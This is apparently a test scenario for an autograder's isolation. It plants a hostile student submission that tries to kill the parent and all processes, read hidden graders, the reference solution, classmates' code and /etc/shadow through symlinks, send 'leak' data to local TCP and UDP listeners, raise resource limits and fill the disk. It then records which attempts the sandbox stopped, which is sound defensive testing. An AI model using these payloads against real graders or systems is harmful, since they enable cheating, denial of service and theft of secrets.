"""A class whose first-graded student attacks everyone else (issue #13), as a scenario run by
``tests/test_autograder_class_hostile.py`` in its own process, as root and as an unprivileged user:

    python -m tests.class_attack WORK_DIR      (prints one JSON object: what happened)

The attacker (``aaa``, graded first) puts code in a module of its own, ``seq2seq/_attack.py``, imported at the end
of every module that holds answers, so that it runs in every one of its children (given modules such as
``__init__.py`` are graded as released, autograder/provided.py: code added there never runs), and tries: killing its parent (the zygote), every other grading child and zygote on the
machine, the deciding process and every process it may signal; reading the hidden graders, the reference
solution and other students' folders (the class's staging folders included); connecting to a TCP listener and
sending to a UDP listener on this machine; raising its resource limits; leaving files in ``/tmp`` and
``/dev/shm`` for another child; and (in ``set_seed``, Q4) filling the disk. It prints what happened to each
attempt, then goes on as the solution. Two honest students hold copies of the solution, and an unrelated
grading of the solution runs in parallel, in another process, while the class is graded.

The grader's edges (issue #26): what the grader itself reads with its own rights. The attacker's submission holds
links to a file only the grader may read (``SECRET``, and ``/etc/shadow`` when graded as root), a hard link to
it, a FIFO, a socket, a device (as root), a name that is not UTF-8 and a 255-byte name; its ``_attack.py`` tries
to read the linked copies. In some questions its code replaces the names a grader once read back from the child's
folder (``printed.txt``, ``outputs.pt``) with links to the secret, the reference solution and a classmate's code,
or with a FIFO, nests folders 1,500 deep, and exits. A fourth student's folder (``dave``) is a link to ``bob``'s.
"""
from __future__ import annotations

import json
import os
import shutil
import socket
import stat
import subprocess
import sys
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
SOLUTION = REPO / "solutions" / "attention_seq2seq"
QUESTIONS = ["Q1", "Q2", "Q3", "Q4", "Q12", "Q13", "Q14", "Q16", "Q20"]
ATTACKS = ["kill parent", "kill grading processes", "kill deciding process", "kill everything", "read graders",
           "read reference", "read other students", "find other students", "tcp connect", "udp send", "raise memory limit",
           "raise file limit", "write /tmp", "write /dev/shm", "read linked file", "read hard-linked file"]
CLASSMATE_MARK = "bob's own line"  # put into bob's attention.py: must never appear in anyone else's feedback
# question's function -> code put first in its body: the child's folder is its working directory
EDGES = {
    ("environment.py", "package_versions"): "    _edge('printed.txt', LINK_TARGET)\n",
    ("environment.py", "import_libraries"): "    _edge('printed.txt', REFERENCE_FILE)\n",
    ("environment.py", "get_device"): "    _edge('printed.txt', CLASSMATE_FILE)\n",
    ("attention.py", "masked_softmax"): "    _edge('printed.txt', SECRET)\n",
    ("attention.py", "score"): "        _edge('outputs.pt', None)\n",
    ("attention.py", "forward"): "        _edge('outputs.pt', SECRET, fifo='printed.txt', nest=1500)\n",
}

EDGE = '''

def _edge(name, target, fifo=None, nest=0):
    """Swap a name the grader once read back for a link to ``target`` (a FIFO when None); exit as if done."""
    import os
    for swapped, to in ((name, target), (fifo, None)):
        if swapped is None:
            continue
        try:
            os.unlink(swapped)
        except OSError:
            pass
        os.mkfifo(swapped) if to is None else os.symlink(to, swapped)
    for _ in range(nest):
        os.mkdir("d")
        os.chdir("d")
    os._exit(0)


def _read_beside(name):
    import os
    return open(os.path.join(os.path.dirname(__file__), name)).read()[:200]
'''

ATTACK = '''
def _attack():
    import glob, os, pathlib, resource, signal, socket
    report = []

    def attempt(name, action):
        try:
            got = action()
            report.append(f"ATTACK {name}: DONE {str(got)[:120]!r}")
        except BaseException as error:
            report.append(f"ATTACK {name}: refused")  # short: all of them fit in the feedback's 800 characters

    def grading_pids():
        found = []
        for cmdline in pathlib.Path("/proc").glob("[0-9]*/cmdline"):
            try:
                if b"autograder" in cmdline.read_bytes() and int(cmdline.parent.name) != os.getpid():
                    found.append(int(cmdline.parent.name))
            except (OSError, ValueError):
                pass
        return found

    def kill_all(pids):
        done = []
        for pid in pids:
            try:
                os.kill(pid, signal.SIGKILL)
                done.append(pid)
            except OSError:
                pass
        if not done:
            raise PermissionError("nothing could be killed")
        return done

    def every_pid():
        os.kill(-1, signal.SIGKILL)  # returns 0 even when every process refused: the loop below tells
        return [int(p.name) for p in pathlib.Path("/proc").glob("[0-9]*") if int(p.name) != os.getpid()]

    def first_file(pattern):
        for path in sorted(glob.glob(pattern, recursive=True)):
            if os.path.realpath(path).startswith(os.path.realpath(os.getcwd())):
                continue
            return open(path).read()[:200]
        raise FileNotFoundError(pattern)

    def deciding_pid():
        return int(pathlib.Path(f"/proc/{os.getppid()}/stat").read_text().rsplit(")", 1)[1].split()[1])

    attempt("kill parent", lambda: os.kill(os.getppid(), signal.SIGKILL))
    attempt("kill grading processes", lambda: kill_all(grading_pids()))
    attempt("kill deciding process", lambda: os.kill(deciding_pid(), signal.SIGKILL))
    attempt("read graders", lambda: open(REPO + "/autograder/graders/grade_environment.py").read()[:200])
    attempt("read reference", lambda: open(REPO + "/solutions/attention_seq2seq/seq2seq/model.py").read()[:200])
    attempt("read other students", lambda: open(CLASS + "/bob/attention_seq2seq/seq2seq/model.py").read()[:200])
    attempt("find other students", lambda: first_file("/tmp/**/seq2seq/model.py"))
    attempt("tcp connect", lambda: socket.create_connection(("127.0.0.1", TCP_PORT), timeout=2).send(b"leak"))
    udp = lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"leak", ("127.0.0.1", UDP_PORT))  # noqa: E731
    attempt("udp send", udp)
    attempt("raise memory limit", lambda: resource.setrlimit(resource.RLIMIT_AS, (-1, -1)))
    attempt("raise file limit", lambda: resource.setrlimit(resource.RLIMIT_FSIZE, (-1, -1)))
    attempt("write /tmp", lambda: open(f"/tmp/attack-{MARK}", "w").write("for the next child"))
    attempt("write /dev/shm", lambda: open(f"/dev/shm/attack-{MARK}", "w").write("for the next child"))
    attempt("read linked file", lambda: _read_beside("secret_copy.txt"))
    attempt("read hard-linked file", lambda: _read_beside("hard_copy.txt"))
    attempt("kill everything", lambda: kill_all(every_pid()))
    print("\\n".join(report), flush=True)


_attack()
'''

ANSWERED = ("environment.py", "data.py", "encoder.py", "attention.py", "decoder.py", "model.py", "training.py",
            "evaluation.py", "visualisation.py", "experiments.py")  # the modules that hold answers
FILL_DISK = ('    import os\n    for i in range(64):\n'
             '        open(f"fill-{i}", "wb").write(b"x" * (60 << 20))\n')


def make_class(root: Path, mark: str, tcp_port: int, udp_port: int, secret: Path) -> Path:
    from tests.helpers import inject

    subs = root / "class"
    attacker = subs / "aaa" / "attention_seq2seq"
    shutil.copytree(SOLUTION, attacker, ignore=shutil.ignore_patterns("__pycache__"))
    code = (ATTACK.replace("REPO", repr(str(REPO))).replace("CLASS", repr(str(subs)))
            .replace("TCP_PORT", str(tcp_port)).replace("UDP_PORT", str(udp_port)).replace("MARK", repr(mark)))
    package = attacker / "seq2seq"
    (package / "_attack.py").write_text(EDGE + code)
    for module in ANSWERED:  # the attacker's own import, kept by the grader like any helper next to an answer
        path = package / module
        path.write_text(path.read_text() + "\nfrom seq2seq import _attack  # noqa: E402, F401\n")
    env = package / "environment.py"
    env.write_text(inject(env.read_text(), "set_seed", FILL_DISK))
    targets = {"LINK_TARGET": "/etc/shadow" if os.geteuid() == 0 else str(secret), "SECRET": str(secret),
               "REFERENCE_FILE": str(SOLUTION / "seq2seq" / "attention.py"),
               "CLASSMATE_FILE": str(subs / "bob" / "attention_seq2seq" / "seq2seq" / "attention.py")}
    for (module, function), edge in EDGES.items():
        for name, value in targets.items():
            edge = edge.replace(name, repr(value))
        indent = edge[:len(edge) - len(edge.lstrip())]
        text = (package / module).read_text()
        (package / module).write_text(inject(text, function, f"{indent}from seq2seq._attack import _edge\n{edge}"))
    _plant_edges(package, secret)
    for honest in ("bob", "carol"):
        copy = subs / honest / "attention_seq2seq"
        shutil.copytree(SOLUTION, copy, ignore=shutil.ignore_patterns("__pycache__"))
        attention = copy / "seq2seq" / "attention.py"
        attention.write_text(attention.read_text() + f"\n# {CLASSMATE_MARK}: {honest} wrote this, {mark}\n")
    (subs / "dave").symlink_to(subs / "bob", target_is_directory=True)  # a student folder that is a classmate's
    return subs


def _plant_edges(package: Path, secret: Path) -> None:
    """What a submission may not hold, as files the student uploads: links, a FIFO, a socket, a device."""
    from tests.helpers import bind_socket

    (package / "secret_copy.txt").symlink_to(secret)
    if os.geteuid() == 0:
        (package / "shadow_copy.txt").symlink_to("/etc/shadow")
        os.mknod(package / "null", 0o600 | stat.S_IFCHR, os.makedev(1, 3))
    os.link(secret, package / "hard_copy.txt")
    os.mkfifo(package / "pipe.txt")
    bind_socket(package / "sock")
    (package / os.fsdecode(b"name-\xff.txt")).write_text("not UTF-8")
    (package / ("n" * 251 + ".txt")).write_text("a 255-byte name")


def main(work: Path) -> dict:
    from autograder import isolation
    from autograder.bulk import grade_all

    mark = f"{os.getpid()}-{time.monotonic_ns()}"
    tcp, udp = socket.socket(), socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    tcp.bind(("127.0.0.1", 0))
    tcp.listen()
    tcp.setblocking(False)
    udp.bind(("127.0.0.1", 0))
    udp.setblocking(False)
    secret = work / "secret.txt"
    secret.write_text(f"SECRET-{mark}: only the grader's own uid may read this\n")
    secret.chmod(0o600)
    subs = make_class(work, mark, tcp.getsockname()[1], udp.getsockname()[1], secret)
    bystander = subprocess.Popen(  # an unrelated grading of the solution, in parallel
        [sys.executable, "-m", "autograder", "grade", str(SOLUTION), "--out", str(work / "bystander.json"),
         "--questions", ",".join(QUESTIONS)], cwd=REPO, stdout=subprocess.DEVNULL, stderr=subprocess.PIPE)
    started = time.monotonic()
    rows = {row["student"]: row for row in grade_all(subs, work / "out", questions=QUESTIONS, progress=False)}
    seconds = time.monotonic() - started
    bystander_code = bystander.wait()
    reached = []
    for sock, kind in ((tcp, "tcp"), (udp, "udp")):
        try:
            sock.accept() if kind == "tcp" else sock.recv(100)
            reached.append(kind)
        except BlockingIOError:
            pass
    attacker = json.loads((work / "out" / "aaa" / "results.json").read_text())
    dave = json.loads((work / "out" / "dave" / "results.json").read_text())
    return {
        "rows": rows, "seconds": round(seconds, 1), "defences": isolation.plan().record(),
        "bystander": json.loads((work / "bystander.json").read_text()) if bystander_code in (0, 3) else None,
        "bystander_stderr": bystander.stderr.read().decode()[-500:],
        "reached": reached,
        "left": [p for p in (f"/tmp/attack-{mark}", f"/dev/shm/attack-{mark}") if os.path.exists(p)],
        "honest": {s: json.loads((work / "out" / s / "results.json").read_text()) for s in ("bob", "carol")},
        "attacker_feedback": "\n".join(t["output"] for t in attacker["tests"]) + attacker.get("output", ""),
        "attacker_status": attacker["extra_data"]["status"], "attacker_reason": attacker["extra_data"]["reason"],
        "attacker_scores": {t["name"].split()[0]: t["score"] for t in attacker["tests"]},
        "feedback_files": {s: (work / "out" / s / "feedback.md").read_text() for s in rows},
        "dave": {"score": dave["score"], "status": dave["extra_data"]["status"], "reason": dave["extra_data"]["reason"]},
        "secret": secret.read_text(), "mark": mark, "root": os.geteuid() == 0,
    }


if __name__ == "__main__":
    sys.path.insert(0, str(REPO))
    print(json.dumps(main(Path(sys.argv[1]))))
